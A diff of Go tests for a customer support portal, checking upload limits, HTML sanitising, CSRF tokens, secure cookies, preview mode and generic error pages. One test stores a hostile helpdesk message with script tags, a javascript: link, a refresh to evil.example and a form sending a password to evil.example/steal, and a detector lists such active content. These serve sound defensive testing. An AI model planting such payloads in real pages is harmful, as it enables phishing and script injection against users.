@@ -4,6 +4,8 @@ import (
 	"bytes"
 	"context"
 	"encoding/csv"
+	"errors"
+	"fmt"
 	"html"
 	"mime/multipart"
 	"net/http"
@@ -231,9 +233,9 @@ func TestUploadLimits(t *testing.T) {
 	assert.Contains(t, res.body, "too large")
 
 	res = c.reply(ticket, token, "over the file limit", map[string][]byte{"big.txt": bytes.Repeat([]byte("a"), 65<<10)})
-	assert.Equal(t, http.StatusBadRequest, res.StatusCode, "a file over the portal's limit")
-	assert.Contains(t, res.body, "attachments[0]")
-	assert.Contains(t, res.body, "over the file limit", "what the customer typed is kept")
+	assert.Equal(t, http.StatusRequestEntityTooLarge, res.StatusCode, "a file over the portal's limit")
+	assert.Contains(t, res.body, "big.txt: at most", "the problem names the file")
+	assert.Contains(t, res.body, ">over the file limit</textarea>", "what the customer typed is kept")
 
 	res = c.reply(ticket, token, "an executable", map[string][]byte{"invoice.pdf": append([]byte("MZ\x90\x00\x03"), make([]byte, 600)...)})
 	assert.Equal(t, http.StatusBadRequest, res.StatusCode, "a lying name")
@@ -248,9 +250,10 @@ func TestUploadLimits(t *testing.T) {
 	assert.NotContains(t, page, "../")
 }
 
-// activeContent returns what in a page could run script: a script element
-// other than the portal's own file, an event handler attribute, or a
-// javascript: URL.
+// activeContent returns what in a page could run script, leave the site or
+// load from elsewhere: a script element other than the portal's own file,
+// an event handler attribute, a javascript: URL, a form, image or style
+// sheet of another site, a refresh, a frame, an object, a style element.
 func activeContent(page string) []string {
 	var found []string
 	z := xhtml.NewTokenizer(strings.NewReader(page))
@@ -269,7 +272,33 @@ func activeContent(page string) []string {
 					found = append(found, tok.String())
 				}
 			}
-			if tok.Data == "script" && tok.String() != `<script src="/static/portal.js" defer="">` {
+			attr := func(name string) string {
+				for _, a := range tok.Attr {
+					if a.Key == name {
+						return a.Val
+					}
+				}
+				return ""
+			}
+			ours := func(u string) bool { return strings.HasPrefix(u, "/") && !strings.HasPrefix(u, "//") }
+			switch tok.Data {
+			case "script":
+				if tok.String() != `<script src="/static/portal.js" defer="">` {
+					found = append(found, tok.String())
+				}
+			case "form":
+				if !ours(attr("action")) {
+					found = append(found, tok.String())
+				}
+			case "img", "link":
+				if u := attr("src") + attr("href"); !ours(u) {
+					found = append(found, tok.String())
+				}
+			case "meta":
+				if attr("http-equiv") != "" {
+					found = append(found, tok.String())
+				}
+			case "iframe", "frame", "object", "embed", "style", "base":
 				found = append(found, tok.String())
 			}
 		}
@@ -289,6 +318,17 @@ func TestHostileTextIsEscaped(t *testing.T) {
 
 	res = c.reply(ticket, c.csrf("/tickets/"+ticket), hostile+"\n\n**bold** and https://example.com/a?b=1&c=2.", nil)
 	require.Equal(t, http.StatusSeeOther, res.StatusCode, res.body)
+	// And a mail the helpdesk stored as it came, HTML and all (S9).
+	ctx := context.Background()
+	id := uuid.MustParse(ticket)
+	threads, err := tp.p.Threads(ctx, tp.demo.tenant(), id)
+	require.NoError(t, err)
+	_, err = tp.p.AddMessage(ctx, portal.Message{PortalID: tp.demo.tenant(), ThreadID: threads[0].ID, Kind: portal.AgentMessage,
+		From: "agent@support.example", Text: "mail", Body: `<p>From the helpdesk</p><script>alert(6)</script>` +
+			`<meta http-equiv="refresh" content="0;url=https://evil.example"><img src="https://tracker.example/p.gif">` +
+			`<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>` +
+			`<a href="javascript:alert(7)" onclick="x()">click</a><style>body{display:none}</style>`})
+	require.NoError(t, err)
 	pages := map[string]string{
 		"detail": c.get("/tickets/" + ticket).body,
 		"list":   c.get("/tickets?q=" + url.QueryEscape(hostile)).body,
@@ -299,6 +339,7 @@ func TestHostileTextIsEscaped(t *testing.T) {
 		assert.Empty(t, activeContent(body), "%s page: nothing runs but the portal's own script", name)
 	}
 	detail := pages["detail"]
+	assert.Contains(t, detail, "<p>From the helpdesk</p>", "the helpdesk's message is shown, cleaned")
 	assert.Contains(t, detail, html.EscapeString("<script>alert(1)</script>"), "the subject shows as text")
 	assert.Contains(t, detail, "<strong>bold</strong>", "the reply's formatting is kept")
 	assert.Contains(t, detail, `<a href="https://example.com/a?b=1&amp;c=2"`, "an address becomes a link")
@@ -334,6 +375,12 @@ func TestDisabledPortal(t *testing.T) {
 	res = login.get("/login")
 	assert.Equal(t, http.StatusServiceUnavailable, res.StatusCode)
 	assert.NotContains(t, res.body, `name="password"`, "no login form while the portal is off")
+
+	for _, path := range []string{"/reset-request", "/register", "/reset?token=x", "/invitation?token=x"} {
+		res := login.get(path)
+		assert.Equal(t, http.StatusServiceUnavailable, res.StatusCode, path)
+		assert.NotContains(t, res.body, `<form method="post" action="/`+strings.Split(strings.TrimPrefix(path, "/"), "?")[0], path)
+	}
 
 	_, err = tp.p.SetEnabled(context.Background(), tp.demo.tenant(), true)
 	require.NoError(t, err)
@@ -458,7 +505,9 @@ func TestPreview(t *testing.T) {
 
 	req, _ := http.NewRequest(http.MethodGet, tp.URL+"/internal/preview", nil)
 	req.SetBasicAuth("agent", "wrong")
-	assert.Equal(t, http.StatusUnauthorized, agent.do(req).StatusCode)
+	res = agent.do(req)
+	assert.Equal(t, http.StatusUnauthorized, res.StatusCode)
+	assert.Contains(t, res.body, "This page is for helpdesk users")
 
 	req, _ = http.NewRequest(http.MethodGet, tp.URL+"/internal/preview", nil)
 	req.SetBasicAuth("agent", "agent-secret")
@@ -478,6 +527,11 @@ func TestPreview(t *testing.T) {
 	assert.Contains(t, list.body, "Preview as "+contact.Name()+" — read only. Opened by agent.")
 	ticket := agent.firstTicket("?status=open")
 	detail := agent.get("/tickets/" + ticket).body
+	assert.NotContains(t, detail, `action="/tickets/`+ticket+`/reply"`, "a preview offers no reply")
+	assert.NotContains(t, detail, `action="/tickets/`+ticket+`/close"`, "nor a close")
+	form := agent.get("/new").body
+	assert.Contains(t, form, "This is a preview: nothing can be sent from it.")
+	assert.Contains(t, form, `type="submit" disabled>`)
 	csrf := csrfPattern.FindStringSubmatch(detail)[1]
 	assert.Equal(t, http.StatusForbidden, agent.reply(ticket, csrf, "from the preview", nil).StatusCode)
 	assert.Equal(t, http.StatusForbidden, agent.post("/tickets/"+ticket+"/close", url.Values{"csrf": {csrf}}).StatusCode)
@@ -534,19 +588,40 @@ func TestListQueries(t *testing.T) {
 	assert.Contains(t, desc, `aria-sort="descending"`)
 	assert.NotEqual(t, ticketIDs(asc), ticketIDs(desc))
 
-	product := tp.demo.data.Tickets[0].Properties["product"]
-	if s, ok := product.(string); ok && s != "" {
-		res := c.get("/tickets?f.product=" + url.QueryEscape(s))
-		assert.Equal(t, http.StatusOK, res.StatusCode)
+	// A column filter: the product (an enumeration), and an owner (a reference,
+	// chosen by the link of an owner's name in the list).
+	all1 := c.get("/tickets?status=closed").body
+	res := c.get("/tickets?status=closed&f.product=grinder")
+	require.Equal(t, http.StatusOK, res.StatusCode)
+	products := regexp.MustCompile(`<td>([^<]*)</td></tr>`).FindAllStringSubmatch(res.body, -1)
+	require.NotEmpty(t, products, "some closed tickets are of that product")
+	for _, m := range products {
+		assert.Equal(t, "Kaffekværn Ø-50", m[1])
 	}
-	res := c.get("/tickets?f.createdAt.from=not-a-date")
+	owner := regexp.MustCompile(`<a class="cell-filter" href="(/tickets\?[^"]*f.owner=[^"]+)" title="Show only ([^"]+)">`).FindStringSubmatch(all1)
+	require.NotNil(t, owner, "owner names link to their filter")
+	byOwner := c.get(html.UnescapeString(owner[1])).body
+	assert.Contains(t, byOwner, `<span class="chip">`+owner[2], "the filter shows whose tickets these are")
+	names := regexp.MustCompile(`title="Show only ([^"]+)">`).FindAllStringSubmatch(byOwner, -1)
+	require.NotEmpty(t, names)
+	for _, n := range names {
+		if n[1] != owner[2] {
+			assert.Contains(t, tp.demo.logins[0].Name+"|"+strings.Join(requesters(tp), "|"), n[1], "only the owner's tickets, and their requesters")
+		}
+	}
+
+	res = c.get("/tickets?f.createdAt.from=not-a-date")
 	assert.Equal(t, http.StatusBadRequest, res.StatusCode, "a bad filter value")
-	assert.Contains(t, res.body, `class="alert"`)
+	assert.Contains(t, res.body, `<li>Created: `, "the problem names the column")
 	assert.Contains(t, res.body, `name="f.createdAt.from" value="not-a-date"`, "the form stays, to mend it")
 	res = c.get("/tickets?view=organisation-of-others")
 	assert.Equal(t, http.StatusBadRequest, res.StatusCode)
 	res = c.get("/tickets?c=forged-cursor")
 	assert.Equal(t, http.StatusBadRequest, res.StatusCode)
+	assert.Contains(t, res.body, "The link of this page is no longer valid")
+	for _, bad := range []string{"?n=0", "?n=x", "?h=" + strings.Repeat("~.", maxHistory) + "~"} {
+		assert.Equal(t, http.StatusBadRequest, c.get("/tickets"+bad).StatusCode, bad)
+	}
 	res = c.get("/tickets?q=" + url.QueryEscape(strings.Repeat("x", 600)))
 	assert.Equal(t, http.StatusBadRequest, res.StatusCode, "a search over the limit")
 }
@@ -676,24 +751,13 @@ func TestSecurityHeaders(t *testing.T) {
 		assert.Equal(t, "nosniff", res.Header.Get("X-Content-Type-Options"), path)
 		assert.Equal(t, "DENY", res.Header.Get("X-Frame-Options"), path)
 	}
-	res := tp.client().get("/login")
-	var csrf *http.Cookie
-	for _, ck := range res.Cookies() {
-		if ck.Name == csrfCookie {
-			csrf = ck
-		}
-	}
+	csrf := setCookie(tp.client().get("/login").Response, csrfCookie)
 	require.NotNil(t, csrf)
 	assert.True(t, csrf.HttpOnly)
 	assert.Equal(t, http.SameSiteLaxMode, csrf.SameSite)
 
-	res = c.post("/login", url.Values{"csrf": {c.csrf("/login")}, "email": {tp.login(0)}, "password": {demoPassword}})
-	var sess *http.Cookie
-	for _, ck := range res.Cookies() {
-		if ck.Name == sessionCookie {
-			sess = ck
-		}
-	}
+	res := c.post("/login", url.Values{"csrf": {c.csrf("/login")}, "email": {tp.login(0)}, "password": {demoPassword}})
+	sess := setCookie(res.Response, sessionCookie)
 	require.NotNil(t, sess)
 	assert.True(t, sess.HttpOnly)
 	assert.Equal(t, http.SameSiteLaxMode, sess.SameSite)
@@ -701,38 +765,175 @@ func TestSecurityHeaders(t *testing.T) {
 	assert.GreaterOrEqual(t, len(sess.Value), 43, "at least 256 bits")
 }
 
-// covers: A6 — cookies are Secure over TLS
-func TestSecureCookiesOverTLS(t *testing.T) {
-	tp := newTestPortal(t)
-	w := httptest.NewRecorder()
-	tp.srv.ServeHTTP(w, httptest.NewRequest(http.MethodGet, "https://portal.example/login", nil))
-	require.Equal(t, http.StatusOK, w.Code)
-	assert.Contains(t, w.Header().Get("Set-Cookie"), "; Secure")
+// setCookie returns the cookie of that name a response sets, or nil.
+func setCookie(res *http.Response, name string) *http.Cookie {
+	for _, c := range res.Cookies() {
+		if c.Name == name {
+			return c
+		}
+	}
+	return nil
 }
 
-// Error pages say nothing of the cause.
+// covers: A6 — cookies are Secure over TLS, and with -secure behind a proxy
+func TestSecureCookies(t *testing.T) {
+	tp := newTestPortal(t)
+	login := func(srv *server, target string) *http.Response {
+		w := httptest.NewRecorder()
+		srv.ServeHTTP(w, httptest.NewRequest(http.MethodGet, target, nil))
+		csrf := setCookie(w.Result(), csrfCookie)
+		require.NotNil(t, csrf)
+		form := url.Values{"csrf": {srv.csrfMAC(csrf.Value)}, "email": {tp.login(0)}, "password": {demoPassword}}
+		req := httptest.NewRequest(http.MethodPost, target, strings.NewReader(form.Encode()))
+		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+		req.AddCookie(csrf)
+		w = httptest.NewRecorder()
+		srv.ServeHTTP(w, req)
+		require.Equal(t, http.StatusSeeOther, w.Code, w.Body.String())
+		return w.Result()
+	}
+	res := login(tp.srv, "https://portal.example/login")
+	for _, name := range []string{sessionCookie, csrfCookie} {
+		c := setCookie(res, name)
+		require.NotNil(t, c, name)
+		assert.True(t, c.Secure, "%s over TLS", name)
+	}
+	assert.Contains(t, res.Header.Get("Strict-Transport-Security"), "max-age=")
+
+	cfg := tp.srv.config
+	cfg.Secure = true
+	behindProxy, err := newServer(cfg)
+	require.NoError(t, err)
+	res = login(behindProxy, "http://portal.example/login")
+	assert.True(t, setCookie(res, sessionCookie).Secure, "-secure marks cookies Secure on plain HTTP")
+}
+
+// failingStore is the demo's store with its ticket list broken, as a lost
+// database connection would break it.
+type failingStore struct{ portal.Store }
+
+func (failingStore) QueryTickets(context.Context, portal.TicketQuery) (portal.TicketPage, error) {
+	return portal.TicketPage{}, errors.New(`sqlite: disk I/O error (5386) reading "/var/lib/portal/portal.db" at goroutine 7`)
+}
+
+// Error pages say nothing of the cause; the log has it.
 func TestInternalErrorsAreGeneric(t *testing.T) {
 	tp := newTestPortal(t)
 	c := tp.client()
 	c.logIn(tp.login(0))
 	cfg := tp.srv.config
-	cfg.PortalID = uuid.New() // a tenant the store does not have: every page fails below
+	var err error
+	cfg.Portal, err = portal.New(failingStore{tp.st}, portal.Options{Now: tp.clock.Now})
+	require.NoError(t, err)
 	broken, err := newServer(cfg)
 	require.NoError(t, err)
-	for _, path := range []string{"/tickets", "/login"} {
-		req := httptest.NewRequest(http.MethodGet, path, nil)
-		req.AddCookie(&http.Cookie{Name: sessionCookie, Value: c.cookie(sessionCookie)})
-		w := httptest.NewRecorder()
-		broken.ServeHTTP(w, req)
-		assert.GreaterOrEqual(t, w.Code, 400, path)
-		for _, leak := range []string{"sql", "SQL", "goroutine", ".go:", "sqlite", cfg.PortalID.String()} {
-			assert.NotContains(t, w.Body.String(), leak, path)
-		}
+	req := httptest.NewRequest(http.MethodGet, "/tickets", nil)
+	req.AddCookie(&http.Cookie{Name: sessionCookie, Value: c.cookie(sessionCookie)})
+	w := httptest.NewRecorder()
+	broken.ServeHTTP(w, req)
+	assert.Equal(t, http.StatusInternalServerError, w.Code)
+	assert.Contains(t, w.Body.String(), "An unexpected error occurred on our side.")
+	for _, leak := range []string{"sqlite", "disk", "/var/lib", "goroutine", "5386"} {
+		assert.NotContains(t, w.Body.String(), leak)
 	}
+	assert.Contains(t, tp.logs.String(), "disk I/O error", "the cause is in the server's log")
+
+	// Without its settings the page is the plain error page, not a stack.
+	cfg.PortalID = uuid.New()
+	unknown, err := newServer(cfg)
+	require.NoError(t, err)
+	w = httptest.NewRecorder()
+	unknown.ServeHTTP(w, httptest.NewRequest(http.MethodGet, "/login", nil))
+	assert.Equal(t, http.StatusServiceUnavailable, w.Code)
+	assert.Contains(t, w.Body.String(), "<h1>The portal is closed</h1>")
+	assert.NotContains(t, w.Body.String(), cfg.PortalID.String())
 }
 
 // The check of TestHostileTextIsEscaped finds what it looks for.
 func TestActiveContentFindsScript(t *testing.T) {
 	assert.Len(t, activeContent(`<p onclick="x()">a</p><a href=" JavaScript:alert(1)">b</a><script>alert(1)</script>`+
 		`<script src="/static/portal.js" defer></script>&lt;script&gt; onerror=`), 3)
+}
+
+// requesters are the names of the demo's contacts.
+func requesters(tp *testPortal) []string {
+	var out []string
+	for _, c := range tp.demo.data.Contacts {
+		out = append(out, c.Name())
+	}
+	return out
+}
+
+// Previous goes back as far as the URL keeps cursors; further back there
+// is the first page.
+// covers: P2
+func TestPagingHistory(t *testing.T) {
+	v := &visit{cat: catalogs["en"]}
+	st := listState{q: url.Values{paramStatus: {"open"}}, cursor: "c50", page: 51}
+	for i := range maxHistory {
+		st.history = append(st.history, fmt.Sprintf("c%d", i))
+	}
+	st.history[0] = ""
+	var d listData
+	fillList(&d, st, portal.TicketView{Next: "c51"}, v)
+	next, err := url.Parse(d.Next)
+	require.NoError(t, err)
+	q := next.Query()
+	assert.Equal(t, "c51", q.Get(paramCursor))
+	assert.Equal(t, "52", q.Get(paramPage))
+	assert.Equal(t, "open", q.Get(paramStatus))
+	h := strings.Split(q.Get(paramHistory), ".")
+	assert.Len(t, h, maxHistory, "the oldest cursor is dropped")
+	assert.Equal(t, "c1", h[0])
+	assert.Equal(t, "c50", h[len(h)-1])
+	prev, err := url.Parse(d.Prev)
+	require.NoError(t, err)
+	assert.Equal(t, "c49", prev.Query().Get(paramCursor))
+	assert.Equal(t, "50", prev.Query().Get(paramPage))
+
+	far, err := parseList(next.Query())
+	require.NoError(t, err)
+	far.history = nil // as far back as the URL went
+	d = listData{}
+	fillList(&d, far, portal.TicketView{}, v)
+	assert.Empty(t, d.Prev)
+	assert.Equal(t, "/tickets?status=open", d.First)
+	assert.Empty(t, d.Next, "no next page on the last one")
+}
+
+// Every form the portal posts is refused without its token.
+// covers: A4, P5, P6, P8, P9
+func TestEveryFormNeedsItsToken(t *testing.T) {
+	tp := newTestPortal(t)
+	c := tp.client()
+	c.logIn(tp.login(0))
+	ticket := c.firstTicket("?view=mine&status=open")
+	before := c.get("/tickets/" + ticket).body
+	for _, path := range []string{"/login", "/logout", "/register", "/reset-request", "/invitation", "/registration", "/reset",
+		"/internal/preview", "/tickets/" + ticket + "/reply", "/tickets/" + ticket + "/close", "/new"} {
+		for _, token := range []string{"", "forged", c.csrf("/tickets") + "x"} {
+			req, err := http.NewRequest(http.MethodPost, tp.URL+path, strings.NewReader(url.Values{"csrf": {token},
+				"email": {tp.login(0)}, "password": {demoPassword}, "subject": {"x"}, "content": {"y"}, "body": {"z"}}.Encode()))
+			require.NoError(t, err)
+			req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+			req.SetBasicAuth("agent", "agent-secret")
+			res := c.do(req)
+			assert.Equal(t, http.StatusForbidden, res.StatusCode, "%s with token %q", path, token)
+		}
+	}
+	assert.Equal(t, http.StatusOK, c.get("/tickets").StatusCode, "still logged in: the logout was refused too")
+	assert.Equal(t, strip(before), strip(c.get("/tickets/"+ticket).body), "nothing changed")
+}
+
+// Both languages have every string.
+// covers: S2
+func TestCatalogsHaveTheSameKeys(t *testing.T) {
+	for lang, c := range catalogs {
+		for key := range catalogs["en"] {
+			assert.Contains(t, c, key, "%s lacks %s", lang, key)
+		}
+		for key := range c {
+			assert.Contains(t, catalogs["en"], key, "%s has %s, which English lacks", lang, key)
+		}
+	}
 }
